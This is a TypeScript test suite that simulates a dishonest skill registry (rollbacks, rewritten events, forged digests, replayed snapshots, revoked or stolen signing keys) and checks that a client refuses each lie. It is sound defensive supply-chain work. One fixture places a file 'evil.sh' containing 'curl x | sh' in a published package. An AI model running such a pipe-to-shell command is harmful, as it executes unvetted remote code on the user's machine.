/** A registry over HTTP that lies about its past, each time caught with the words that say how. */
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { openHttpRegistry } from "../../../src/adapters/registry/registry-http.ts";
import { trustedRegistry } from "../../../src/app/install/trusted-registry.ts";
import type { Registry } from "../../../src/app/ports/ports.ts";
import { sha256 } from "../../../src/core/bytes.ts";
import type { SkillEntry } from "../../../src/core/catalog/catalog.ts";
import type { SkillId } from "../../../src/core/names.ts";
import { NO_KEYS, withKey, withRevocation } from "../../../src/core/trust/key-document.ts";
import type { TestServer } from "../../support/index-server.ts";
import { RegistryFixture } from "../../support/registry-fixture.ts";
import {
  keyDocument,
  type Liar,
  MemoryPins,
  SINCE,
  serveSigned,
  type TestKey,
  testKey,
} from "../../support/signing-index.ts";

const SKILL = { namespace: "billing", name: "refunds" };
const NOW = "2026-06-01T12:00:00Z";
const HOUR = 3600_000;

let key: TestKey;
let liar: Liar;
let server: TestServer;
let pins: MemoryPins;
let clock: number;
beforeEach(async () => {
  key = testKey();
  clock = Date.parse(NOW);
  pins = new MemoryPins();
  liar = { registry: published("1.0.0", "1.1.0"), key, document: keyDocument(key), now: NOW, tamper: undefined };
  server = await serveSigned(liar);
});
afterEach(() => server.close());

function published(...versions: readonly string[]): RegistryFixture {
  return versions.reduce(
    (r, version) => r.publish("billing/refunds", version),
    new RegistryFixture().publish("a/b", "1.0.0"),
  );
}

/** One run of a client. */
function open(options: { readonly key?: string; readonly pins?: MemoryPins } = {}): Registry {
  return trustedRegistry(openHttpRegistry(server.url), options.pins ?? pins, {
    key: options.key,
    maxAgeSeconds: 24 * 3600,
    now: () => clock,
  });
}

const resolved = async (options?: Parameters<typeof open>[0]) => (await open(options).resolve(SKILL)).version;

/** The words with which a run is refused. */
async function refusal(ask: (registry: Registry) => Promise<unknown>, options?: Parameters<typeof open>[0]) {
  const error = await ask(open(options)).then(
    () => undefined,
    (e: unknown) => e as { readonly code?: string; readonly message: string },
  );
  expect(error?.code).toBe("REGISTRY_UNTRUSTED");
  return error?.message ?? "";
}
const refused = (options?: Parameters<typeof open>[0]) => refusal((registry) => registry.resolve(SKILL), options);

const textOf = async (path: string) => (await fetch(`${server.url}${path}`)).text();

function entryOf(registry: RegistryFixture): SkillEntry {
  const entry = registry.catalog.skills.get("billing/refunds" as SkillId);
  if (entry === undefined) throw new Error("billing/refunds is not there");
  return entry;
}

describe("an honest registry", () => {
  test("is believed, from one version to the next", async () => {
    expect(await resolved()).toBe("1.1.0");
    liar.registry.publish("billing/refunds", "1.2.0");
    clock += HOUR;
    liar.now = new Date(clock).toISOString();
    expect(await resolved()).toBe("1.2.0");
  });

  test("that goes on between two requests of one run is believed", async () => {
    const registry = open();
    await registry.resolve(SKILL);
    liar.registry.publish("billing/refunds", "1.2.0");
    expect((await registry.resolve(SKILL)).version).toBe("1.2.0");
  });

  test("is believed where the event of a release names what is hidden from who asks", async () => {
    liar.registry.publish("a/hidden", "1.0.0");
    const closure = [{ id: "a/hidden" as SkillId, version: "1.0.0", digest: sha256("hidden") }];
    liar.registry.publish("billing/refunds", "1.2.0", { related: { requires: ["a/hidden@^1"], closure } });
    expect(await resolved()).toBe("1.2.0");
    liar.registry.offer("a/hidden", { visibility: "private" });
    expect(await textOf("/v1/skills/billing/refunds/events")).toContain('"redacted":true');
    expect(await resolved({ pins: new MemoryPins() })).toBe("1.2.0");
    expect(await resolved()).toBe("1.2.0");
  });

  test("that signs nothing is let through, unless it did before or was expected to", async () => {
    liar.document = NO_KEYS;
    expect(await resolved()).toBe("1.1.0");
    expect(await refused({ key: key.signer.keyId })).toContain("it signs nothing");
    liar.document = keyDocument(key);
    await resolved();
    liar.document = NO_KEYS;
    expect(await refused()).toContain("it signs nothing, and it was expected to");
  });

  test("is asked for its keys and its checkpoint once in a run", async () => {
    const registry = open();
    await registry.resolve(SKILL);
    await registry.resolve({ namespace: "a", name: "b" });
    const asked = server.requests.filter((path) => path === "/v1/keys" || path === "/v1/checkpoint");
    expect(asked).toEqual(["/v1/keys", "/v1/checkpoint"]);
  });
});

describe("a registry that lies", () => {
  test("by rewriting an old event", async () => {
    await resolved();
    liar.registry = new RegistryFixture()
      .publish("a/b", "1.0.0")
      .publish("billing/refunds", "1.0.0", { notes: "Another past." })
      .publish("billing/refunds", "1.1.0");
    expect(await refused()).toMatch(
      /it shows another history: event 2 of billing\/refunds is not the one that was seen before/,
    );
  });

  test("by rolling back", async () => {
    await resolved();
    liar.registry = published("1.0.0");
    expect(await refused()).toContain("it was rolled back: billing/refunds has 1 events, and 2 were seen before");
  });

  test("by dropping an event of a skill and not of its checkpoint", async () => {
    liar.tamper = (path, body) => (path.endsWith("/events") ? `${body.trimEnd().split("\n")[0]}\n` : body);
    expect(await refused()).toContain(
      "it dropped an event: it shows 1 events of billing/refunds, and its signed checkpoint says 2",
    );
  });

  test("by telling another end of the chain than is signed", async () => {
    liar.tamper = (path, body) =>
      path.includes("/versions/") ? body.replace(/("chain":\{"n":2,"hash":"sha256:)\w{4}/, "$10000") : body;
    expect(await refused()).toMatch(
      /it says that billing\/refunds has 2 events that end with .* and its signed checkpoint says 2/,
    );
  });

  test("by giving other bytes than were published", async () => {
    liar.tamper = (path, body) =>
      path.includes("/versions/") ? body.replace(/("digest":")sha256:\w+/, `$1${sha256("other")}`) : body;
    expect(await refused()).toContain("never published 1.1.0 with the digest");
  });

  test("by giving other bytes than were published, and forging the past under the name that the skill had", async () => {
    liar.registry.rename("billing/refunds", "billing/returns");
    expect(await resolved()).toBe("1.1.0");
    const real = liar.registry.catalog.skills.get("billing/returns" as SkillId)?.releases.get("1.1.0")?.digest ?? "";
    liar.tamper = (path, body) =>
      path.includes("/versions/") || path === "/v1/skills/billing/refunds/events"
        ? body.replaceAll(real, sha256("other"))
        : body;
    expect(await refused({ pins: new MemoryPins() })).toContain("it shows another history");
    const honest = liar.tamper;
    liar.tamper = (path, body) =>
      path.startsWith("/v1/checkpoint/") ? body.replace(/billing\/refunds [^\\]+\\n/, "") : honest(path, body);
    expect(await refused({ pins: new MemoryPins() })).toContain("is not the one that is signed");
  });

  test("by telling another story the second time it is asked", async () => {
    const registry = open();
    const { digest } = await registry.resolve(SKILL);
    liar.tamper = (path, body) =>
      path.includes("/versions/") || path.endsWith("/events") ? body.replaceAll(digest, sha256("other")) : body;
    await expect(registry.resolve(SKILL)).rejects.toMatchObject({ code: "REGISTRY_UNTRUSTED" });
  });

  test("by changing a table of the checkpoint", async () => {
    liar.tamper = (path, body) =>
      path.startsWith("/v1/checkpoint/") ? body.replace("billing/refunds 2", "billing/refunds 3") : body;
    expect(await refused()).toContain("a table of its checkpoint is not the one that is signed");
  });

  test("by giving out what it withdrew", async () => {
    const before = published("1.0.0", "1.1.0").catalog.skills.get("billing/refunds" as SkillId);
    liar.registry.state("billing/refunds", "1.1.0", "withdrawn", { reason: "leaks" });
    const { n, hash } = liar.registry.catalog.skills.get("billing/refunds" as SkillId)?.tip ?? { n: 0, hash: "" };
    liar.tamper = (path, body) =>
      path.includes("/versions/")
        ? body
            .replace(/"version":"1\.0\.0"/, '"version":"1.1.0"')
            .replace(/"digest":"sha256:\w+"/, `"digest":"${before?.releases.get("1.1.0")?.digest}"`)
            .replace(/"chain":\{[^}]*\}/, `"chain":{"n":${n},"hash":"${hash}"}`)
        : body;
    expect(await refused()).toContain("that skill's own events say that it is withdrawn");
  });

  test("by hiding the event that withdrew it, as if that told of a hidden skill", async () => {
    liar.registry.state("billing/refunds", "1.1.0", "withdrawn", { reason: "leaks" });
    const { tip, releases } = entryOf(liar.registry);
    liar.tamper = (path, body) => {
      if (path.endsWith("/events")) {
        const lines = body.trimEnd().split("\n");
        const last = JSON.stringify({ hash: sha256(lines.at(-1) ?? ""), n: lines.length, redacted: true });
        return `${[...lines.slice(0, -1), last].join("\n")}\n`;
      }
      return path.includes("/versions/")
        ? body
            .replace(/"version":"1\.0\.0"/, '"version":"1.1.0"')
            .replace(/"digest":"sha256:\w+"/, `"digest":"${releases.get("1.1.0")?.digest}"`)
            .replace(/"chain":\{[^}]*\}/, `"chain":{"n":${tip.n},"hash":"${tip.hash}"}`)
        : body;
    };
    expect(await refused()).toContain(
      "it gives out billing/refunds@1.1.0, and its signed checkpoint says that it is withdrawn",
    );
    // The same lie in the skill's own document.
    const other = liar.tamper;
    liar.tamper = (path, body) =>
      path === "/v1/skills/billing/refunds"
        ? body.replace('"state":"withdrawn"', '"state":"online"')
        : other(path, body);
    expect(await refused()).toContain("it shows other releases, states or channels of billing/refunds than");
  });

  test.each([
    ["a range", "^1.0"],
    ["a channel", "latest"],
  ])("by answering %s with an older release", async (_, wanted) => {
    const old = await textOf("/v1/skills/billing/refunds/versions/1.0.0");
    liar.tamper = (path, body) => (path.includes("/versions/") ? old : body);
    expect(await refusal((registry) => registry.resolve({ ...SKILL, wanted }))).toContain(
      `it answers billing/refunds@${wanted} with 1.0.0, and by its signed checkpoint that is 1.1.0`,
    );
  });

  test("by answering with another skill, and by the name that a skill had with a stranger", async () => {
    const other = await textOf("/v1/skills/a/b/versions/latest");
    liar.tamper = (path, body) => (path.includes("/refunds/versions/") ? other : body);
    expect(await refused()).toContain("it answers for billing/refunds with a/b");
    liar.registry.rename("billing/refunds", "billing/returns");
    expect(await refused()).toContain("it answers for billing/refunds with a/b");
    liar.tamper = undefined;
    expect(await resolved()).toBe("1.1.0");
  });

  test("by saying that there is nothing", async () => {
    liar.absent = (path) => path.startsWith("/v1/skills/billing/refunds/versions/");
    expect(await refused()).toContain(
      "it says that there is no billing/refunds@latest, and by its signed checkpoint that is 1.1.0",
    );
    liar.absent = (path) => path.startsWith("/v1/skills/billing/refunds");
    expect(await refused()).toContain("it says that there is no billing/refunds, and its signed checkpoint has it");
    expect(await refusal((registry) => registry.show(SKILL))).toContain("there is no billing/refunds");
    liar.absent = undefined;
    await expect(open().resolve({ ...SKILL, wanted: "9.0.0" })).rejects.toMatchObject({ code: "VERSION_NOT_FOUND" });
    await expect(open().show({ namespace: "no", name: "body" })).rejects.toMatchObject({ code: "SKILL_NOT_FOUND" });
  });

  test("by showing a skill with a state or a channel that it does not have", async () => {
    expect((await open().show(SKILL)).version).toBe("1.1.0");
    liar.tamper = (path, body) => (path === "/v1/skills/billing/refunds" ? body.replace("online", "yanked") : body);
    expect(await refusal((registry) => registry.show(SKILL))).toContain("it shows other releases, states or channels");
    liar.tamper = (path, body) => (path.endsWith("/channels") ? body.replaceAll("1.1.0", "1.0.0") : body);
    expect(await refusal((registry) => registry.channels(SKILL))).toContain(
      "it says that the channel latest of billing/refunds is at 1.0.0, and its signed checkpoint says 1.1.0",
    );
  });

  test("by listing another version, or leaving a skill out", async () => {
    const ids = async () => (await open().list()).map(({ id }) => id);
    expect(await ids()).toEqual(["a/b", "billing/refunds"]);
    liar.tamper = (_, body) => body.replace('"version":"1.1.0"', '"version":"1.0.0"');
    for (const ask of [(r: Registry) => r.list(), (r: Registry) => r.search("refunds")])
      expect(await refusal(ask)).toContain("it lists billing/refunds with the version 1.0.0");
    liar.tamper = (path, body) =>
      path === "/v1/skills"
        ? JSON.stringify({ skills: (JSON.parse(body) as { skills: unknown[] }).skills.slice(1), next: null })
        : body;
    expect(await refusal((registry) => registry.list())).toContain("it leaves out a/b");
    liar.tamper = (path, body) =>
      path === "/v1/skills" ? body.replaceAll("billing/refunds", "billing/invented") : body;
    expect(await refusal((registry) => registry.list())).toContain("it lists billing/invented");
  });

  test("by keeping quiet about what was withdrawn, or saying it of what was not", async () => {
    const revoked = async () => (await open().revocations()).revocations.map(({ version }) => version);
    expect(await revoked()).toEqual([]);
    liar.registry.state("billing/refunds", "1.1.0", "withdrawn", { reason: "leaks" });
    expect(await revoked()).toEqual(["1.1.0"]);
    liar.tamper = (path, body) => (path === "/v1/revocations" ? '{"revocations":[]}' : body);
    const words = "it says that other releases were withdrawn than its signed checkpoint says";
    expect(await refusal((registry) => registry.revocations())).toContain(words);
    liar.tamper = (path, body) => (path === "/v1/revocations" ? body.replace("1.1.0", "1.0.0") : body);
    expect(await refusal((registry) => registry.revocations())).toContain(words);
  });

  test("by telling an agent to have what is not offered", async () => {
    liar.registry
      .bind("agents/clerk", "skills: { billing/refunds: ^1 }\n")
      .state("billing/refunds", "1.0.0", "offline");
    expect((await open().manifest("clerk")).skills.map(({ version }) => version)).toEqual(["1.1.0"]);
    const old = entryOf(liar.registry).releases.get("1.0.0")?.digest;
    const now = entryOf(liar.registry).releases.get("1.1.0")?.digest ?? "";
    liar.tamper = (path, body) =>
      path.endsWith("/manifest") ? body.replace('"1.1.0"', '"1.0.0"').replaceAll(now, String(old)) : body;
    expect(await refusal((registry) => registry.manifest("clerk"))).toContain(
      "it gives out billing/refunds@1.0.0, and its signed checkpoint says that it is offline",
    );
  });

  test("by replaying an old snapshot", async () => {
    liar.now = "2026-06-01T12:00:00Z";
    await resolved();
    liar.now = "2026-06-01T10:00:00Z";
    expect(await refused()).toContain(
      "it replays an old snapshot: its checkpoint is of 2026-06-01T10:00:00Z, and one of 2026-06-01T12:00:00Z was seen before",
    );
  });

  test("by serving a stale one for too long", async () => {
    await resolved();
    clock += 25 * HOUR;
    expect(await refused()).toMatch(/it is stale: its checkpoint is of .*, more than 24 hours ago/);
  });

  test("by signing for the future", async () => {
    liar.now = "2026-06-01T14:00:00Z";
    expect(await refused()).toContain("still to come");
  });

  test("by showing two clients different things, as soon as one knows what the other saw", async () => {
    await resolved();
    const other = new MemoryPins();
    liar.registry = new RegistryFixture()
      .publish("a/b", "1.0.0")
      .publish("billing/refunds", "1.0.0", { files: { "evil.sh": "curl x | sh\n" } })
      .publish("billing/refunds", "1.1.0", { files: { "evil.sh": "curl x | sh\n" } });
    expect(await resolved({ pins: other })).toBe("1.1.0");
    // What one client remembers is a file: whoever has both sees that they cannot be of one registry.
    for (const [registry, pin] of other.pins) await pins.update(registry, (now) => ({ ...pin, seen: now?.seen ?? {} }));
    expect(await refused()).toContain("it shows another history");
  });
});

describe("keys", () => {
  test("a checkpoint that is signed with a stranger's is refused", async () => {
    await resolved();
    liar.key = testKey();
    liar.document = keyDocument(liar.key);
    expect(await refused()).toContain("not signed with a key that is known of it");
  });

  test("a rotation is followed, also later and by who skipped one", async () => {
    await resolved();
    const [second, third] = [testKey(), testKey()];
    liar.document = keyDocument(key, second, third);
    liar.key = third;
    expect(await resolved()).toBe("1.1.0");
    liar.document = keyDocument(key, testKey());
    liar.key = testKey();
    expect(await refused()).toContain("none of those introduced");
  });

  test("a key that somebody was told counts more than first sight, and has to be there", async () => {
    expect(await resolved({ key: key.signer.keyId })).toBe("1.1.0");
    expect(await refused({ key: `sha256:${"0".repeat(64)}` })).toContain("it does not have the key");
  });

  test("loss: a backup that was introduced in time goes on, without one people compare ids", async () => {
    const backup = testKey();
    liar.document = keyDocument(key, backup);
    await resolved();
    // The present secret is gone; the backup signs, and revokes it.
    const lost = { id: key.signer.keyId, at: SINCE, reason: "lost" };
    liar.key = backup;
    liar.document = withRevocation(liar.document, lost, backup.signer);
    expect(await resolved()).toBe("1.1.0");
    // Without one: a new key that nobody introduced.
    const fresh = testKey();
    liar.key = fresh;
    liar.document = withKey(NO_KEYS, { id: fresh.signer.keyId, publicKey: fresh.publicKey, since: SINCE });
    expect(await refused()).toContain("not signed with a key that is known of it");
    expect(await resolved({ key: fresh.signer.keyId })).toBe("1.1.0");
    expect(await resolved()).toBe("1.1.0");
  });

  test("theft: a revoked key is refused for ever, whatever documents come later", async () => {
    const backup = testKey();
    liar.document = keyDocument(key, backup);
    await resolved();
    const honest = liar.document;
    liar.document = withRevocation(honest, { id: key.signer.keyId, at: SINCE, reason: "stolen" }, backup.signer);
    expect(await refused()).toContain("signed with a key that was revoked (stolen)");
    liar.key = backup;
    expect(await resolved()).toBe("1.1.0");
    // The thief serves the old document again, and one with a key of their own.
    liar.key = key;
    liar.document = honest;
    expect(await refused()).toContain("revoked (stolen)");
    const thief = testKey();
    liar.document = keyDocument(key, thief);
    liar.key = thief;
    expect(await refused()).toContain("not signed with a key that is known of it");
  });

  test.each([
    ["list", (registry: Registry) => registry.list()],
    ["search", (registry: Registry) => registry.search("refunds")],
    ["show", (registry: Registry) => registry.show(SKILL)],
    ["resolve", (registry: Registry) => registry.resolve(SKILL)],
    ["channels", (registry: Registry) => registry.channels(SKILL)],
    ["revocations", (registry: Registry) => registry.revocations()],
  ])("a backup that signs an older state is refused by `%s`, though nothing was installed", async (_, ask) => {
    const backup = testKey();
    liar.document = keyDocument(key, backup);
    liar.registry.state("billing/refunds", "1.1.0", "withdrawn", { reason: "it leaks" });
    await open().list();
    liar.registry = published("1.0.0", "1.1.0");
    liar.key = backup;
    const rolledBack = "it was rolled back: billing/refunds has 2 events, and 3 were seen before";
    expect(await refusal(ask)).toContain(rolledBack);
    // What it says then changes nothing of what is remembered.
    expect(await refusal(ask)).toContain(rolledBack);
    liar.registry.state("billing/refunds", "1.1.0", "withdrawn", { reason: "it leaks" });
    await ask(open());
  });

  test("of what changed since, what somebody merely met is known, too", async () => {
    const backup = testKey();
    liar.document = keyDocument(key, backup);
    await open().resolve({ namespace: "a", name: "b" });
    // The second look reads what the first had no need of.
    await open().resolve({ namespace: "a", name: "b" });
    liar.registry = published("1.0.0");
    liar.key = backup;
    expect(await refusal((registry) => registry.resolve({ namespace: "a", name: "b" }))).toContain(
      "it was rolled back",
    );
  });

  test("a longer end that was merely listed takes no place of events that were read", async () => {
    await resolved();
    liar.registry = published("1.0.0").publish("billing/refunds", "1.1.0", { notes: "Another past." });
    liar.registry.publish("billing/refunds", "1.2.0");
    await open().list();
    expect(await refused()).toContain("it shows another history than the one that is signed or was seen");
  });

  test("what is hidden by now is no step back", async () => {
    await open().list();
    liar.registry.offer("a/b", { visibility: "private" });
    expect(await open().list()).toHaveLength(1);
  });

  test("theft without a backup: the key revokes itself, and a new one is given", async () => {
    await resolved();
    liar.document = withRevocation(liar.document, { id: key.signer.keyId, at: SINCE, reason: "stolen" }, key.signer);
    expect(await refused()).toContain("every key that is known of it was revoked (stolen)");
    const fresh = testKey();
    liar.key = fresh;
    liar.document = withKey(liar.document, { id: fresh.signer.keyId, publicKey: fresh.publicKey, since: SINCE });
    expect(await resolved({ key: fresh.signer.keyId })).toBe("1.1.0");
  });
});

test("asks for an agent's manifest of the moment that is meant", async () => {
  liar.registry.bind("agents/clerk", "skills: { billing/refunds: ^1 }\n");
  expect((await open().manifest("clerk")).skills).toHaveLength(1);
  await expect(open().manifest("clerk", { at: "2020-01-01T00:00:00Z" })).rejects.toThrow('There is no agent "clerk".');
});

describe("a ledger that was put back, signed with a key that was introduced", () => {
  test.each([
    ["list", "list", (registry: Registry) => registry.list()],
    ["one skill", "list", (registry: Registry) => registry.resolve(SKILL)],
    ["search", "list", (registry: Registry) => registry.search("refunds")],
    ["list", "one skill", (registry: Registry) => registry.list()],
  ])("is caught by %s after no more than %s", async (_, before, ask) => {
    const next = testKey();
    const document = keyDocument(key, next);
    const earlier = published("1.0.0", "1.1.0");
    Object.assign(liar, {
      document,
      registry: published("1.0.0", "1.1.0").state("billing/refunds", "1.1.0", "withdrawn"),
    });
    await (before === "list" ? open().list() : open().resolve(SKILL));
    Object.assign(liar, { key: next, registry: earlier });
    expect(await refusal(ask)).toMatch(/was rolled back: billing\/refunds has 2 events, and 3 were seen before/);
  });
});
